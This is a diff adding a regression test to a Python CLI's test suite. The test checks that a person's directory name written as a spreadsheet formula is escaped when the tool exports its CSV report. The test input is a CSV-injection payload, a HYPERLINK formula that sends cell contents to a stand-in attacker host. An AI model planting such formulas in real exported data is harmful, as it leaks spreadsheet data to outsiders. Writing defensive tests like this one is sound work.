@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 
 from acks_env import set_ack_config
@@ -67,3 +68,16 @@ def test_report_csv_to_a_file(acks_env, capsys, tmp_path):
     assert capsys.readouterr().out == ""
     assert acks(env, "--report", "json") == 0
     assert json.loads(capsys.readouterr().out)["totals"]["expected"] == 4
+
+
+def test_a_directory_name_that_is_a_formula_reaches_the_csv_as_text(acks_env, capsys):
+    """Issue 11 defect 6: a Directory name `=HYPERLINK(…)` must not reach `acks --report csv` as a live formula."""
+    env = acks_env()
+    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Dave")'
+    env.add_person("dave.dodd", hostile)
+    assert acks(env, "--report", "csv") == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    cells = [v for r in rows for v in r.values()]
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    staff = next(r for r in rows if r["org_unit"] == "/Staff")
+    assert "'" + hostile in staff["outstanding_names"]
